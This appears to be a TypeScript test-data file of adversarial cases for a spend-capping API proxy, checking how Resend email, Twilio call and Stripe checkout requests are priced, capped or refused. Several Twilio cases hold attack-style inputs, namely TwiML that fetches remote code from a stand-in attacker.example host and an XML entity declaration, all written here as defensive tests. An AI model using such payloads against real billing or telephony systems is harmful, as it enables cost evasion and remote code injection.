// The billing-unit class of the adversarial suite (units.test.ts), as data: run over HTTP there and, where a case's
// endpoint is a tool, over MCP in mcp.test.ts.
import { form } from './harness';

const A = '/twilio/2010-04-01/Accounts/self';
const addresses = (n: number, domain: string): string[] => Array.from({ length: n }, (_, i) => `u${i}@${domain}`);
const call = (twiml: string, extra: Record<string, string> = {}): { form: string } => ({ form: form({ To: '+15558675310', From: '+15017122661', Twiml: twiml, TimeLimit: '120', ...extra }) });

export type Outcome = 'priced' | 'refused' | 'over_cap';
export type Case = [name: string, vendor: 'resend' | 'twilio' | 'stripe', cap: number, path: string, body: { form: string } | { json: unknown }, outcome: Outcome, policy?: Record<string, unknown>];

export const UNIT_CASES: Case[] = [
  ['Resend: 50 To, 49 Cc and 49 Bcc recipients are 148 emails', 'resend', 1, '/resend/emails', { json: { from: 'a@acme.test', subject: 's', text: 't', to: addresses(50, 'to.test'), cc: addresses(49, 'cc.test'), bcc: addresses(49, 'bcc.test') } }, 'priced'],
  ['Resend: a batch of 100 emails with 50 recipients each is 5,000 emails', 'resend', 5, '/resend/emails/batch', { json: Array.from({ length: 100 }, (_, i) => ({ from: 'a@acme.test', subject: `s${i}`, text: 't', to: addresses(50, `b${i}.test`) })) }, 'priced'],
  ['Resend: the same batch under a $1 cap is refused whole', 'resend', 1, '/resend/emails/batch', { json: Array.from({ length: 100 }, (_, i) => ({ from: 'a@acme.test', subject: `s${i}`, text: 't', to: addresses(50, `c${i}.test`) })) }, 'over_cap'],
  ['Resend: several addresses in one To string each count', 'resend', 1, '/resend/emails', { json: { from: 'a@acme.test', subject: 's', text: 't', to: addresses(30, 'x.test').join(', ') } }, 'priced'],
  ['Resend: a Bcc string with semicolons counts each address', 'resend', 1, '/resend/emails', { json: { from: 'a@acme.test', subject: 's', text: 't', to: 'one@x.test', bcc: addresses(40, 'y.test').join(';') } }, 'priced'],
  ['Resend: a batch mixing To, Cc and Bcc strings and lists', 'resend', 1, '/resend/emails/batch', { json: [{ from: 'a@acme.test', subject: '1', text: 't', to: 'p@x.test', cc: ['q@x.test', 'r@x.test'] }, { from: 'a@acme.test', subject: '2', text: 't', to: ['s@x.test'], bcc: 't@x.test,u@x.test' }] }, 'priced'],
  ['Twilio: a call that dials two more numbers is three legs', 'twilio', 1, `${A}/Calls.json`, call('<Response><Dial><Number>+447700900123</Number><Number>+4915112345678</Number></Dial></Response>'), 'priced'],
  ['Twilio: a number written straight into <Dial> is a leg', 'twilio', 1, `${A}/Calls.json`, call('<Response><Say>Connecting</Say><Dial timeLimit="60">+33612345678</Dial></Response>'), 'priced'],
  ['Twilio: client and SIP legs are priced at the dearest rate', 'twilio', 5, `${A}/Calls.json`, call('<Response><Dial><Client><Identity>alice</Identity></Client><Sip>sip:bob@pbx.example</Sip></Dial></Response>'), 'priced'],
  ['Twilio: several <Dial>s in a row each add their legs', 'twilio', 1, `${A}/Calls.json`, call('<Response><Dial>+447700900123</Dial><Dial>+447700900124</Dial><Dial>+447700900125</Dial></Response>'), 'priced'],
  ['Twilio: ten legs past the cap are refused before anything is dialled', 'twilio', 0.5, `${A}/Calls.json`, call(`<Response><Dial>${Array.from({ length: 10 }, (_, i) => `<Number>+4477009001${10 + i}</Number>`).join('')}</Dial></Response>`), 'over_cap'],
  ['Twilio: <Redirect> fetches TwiML Keybrake cannot see: refused', 'twilio', 5, `${A}/Calls.json`, call('<Response><Redirect>https://attacker.example/more</Redirect></Response>'), 'refused'],
  ['Twilio: <Dial action> fetches TwiML after the dial: refused', 'twilio', 5, `${A}/Calls.json`, call('<Response><Dial action="https://attacker.example/next">+447700900123</Dial></Response>'), 'refused'],
  ['Twilio: a whisper url on <Number> runs remote TwiML: refused', 'twilio', 5, `${A}/Calls.json`, call('<Response><Dial><Number url="https://attacker.example/w">+447700900123</Number></Dial></Response>'), 'refused'],
  ['Twilio: <Conference> joins a room others can dial into: refused', 'twilio', 5, `${A}/Calls.json`, call('<Response><Dial><Conference>room</Conference></Dial></Response>'), 'refused'],
  ['Twilio: a remote Url is refused without max_call_legs', 'twilio', 5, `${A}/Calls.json`, { form: form({ To: '+15558675310', From: '+15017122661', Url: 'https://attacker.example/twiml' }) }, 'refused'],
  ['Twilio: an ApplicationSid is refused without max_call_legs', 'twilio', 5, `${A}/Calls.json`, { form: form({ To: '+15558675310', From: '+15017122661', ApplicationSid: 'AP123' }) }, 'refused'],
  ['Twilio: a FallbackUrl beside inline TwiML is refused', 'twilio', 5, `${A}/Calls.json`, call('<Response><Say>hi</Say></Response>', { FallbackUrl: 'https://attacker.example/fb' }), 'refused'],
  ['Twilio: a remote Url with max_call_legs is priced at that many legs', 'twilio', 10, `${A}/Calls.json`, { form: form({ To: '+15558675310', From: '+15017122661', Url: 'https://example.test/twiml', TimeLimit: '60' }) }, 'priced', { max_call_legs: 3 }],
  ['Twilio: TwiML with a DOCTYPE is not parsed: refused', 'twilio', 5, `${A}/Calls.json`, call('<!DOCTYPE x [<!ENTITY n "+447700900123">]><Response><Dial>&n;</Dial></Response>'), 'refused'],
  ['Stripe: a checkout session with a shipping rate is priced with its shipping', 'stripe', 100, '/stripe/v1/checkout/sessions', { form: form({ mode: 'payment', 'line_items[0][price_data][currency]': 'usd', 'line_items[0][price_data][unit_amount]': 1000, 'line_items[0][price_data][product_data][name]': 'T', 'line_items[0][quantity]': 1, 'shipping_options[0][shipping_rate_data][fixed_amount][amount]': 4000, 'shipping_options[0][shipping_rate_data][fixed_amount][currency]': 'usd', 'shipping_options[1][shipping_rate_data][fixed_amount][amount]': 9000, 'shipping_options[1][shipping_rate_data][fixed_amount][currency]': 'usd' }) }, 'priced'],
  ['Stripe: an adjustable quantity is priced at its maximum (99 by default)', 'stripe', 50, '/stripe/v1/checkout/sessions', { form: form({ mode: 'payment', 'line_items[0][price_data][currency]': 'usd', 'line_items[0][price_data][unit_amount]': 100, 'line_items[0][price_data][product_data][name]': 'T', 'line_items[0][quantity]': 1, 'line_items[0][adjustable_quantity][enabled]': 'true' }) }, 'over_cap'],
  ['Stripe: a subscription-mode session is refused', 'stripe', 100, '/stripe/v1/checkout/sessions', { form: form({ mode: 'subscription', 'line_items[0][price]': 'price_m', 'line_items[0][quantity]': 1 }) }, 'refused'],
  ['Stripe: automatic tax on top is refused', 'stripe', 100, '/stripe/v1/checkout/sessions', { form: form({ mode: 'payment', 'automatic_tax[enabled]': 'true', 'line_items[0][price_data][currency]': 'usd', 'line_items[0][price_data][unit_amount]': 100, 'line_items[0][price_data][product_data][name]': 'T' }) }, 'refused'],
  ['Stripe: line-item tax rates on top are refused', 'stripe', 100, '/stripe/v1/checkout/sessions', { form: form({ mode: 'payment', 'line_items[0][price_data][currency]': 'usd', 'line_items[0][price_data][unit_amount]': 100, 'line_items[0][price_data][product_data][name]': 'T', 'line_items[0][tax_rates][0]': 'txr_1' }) }, 'refused'],
];
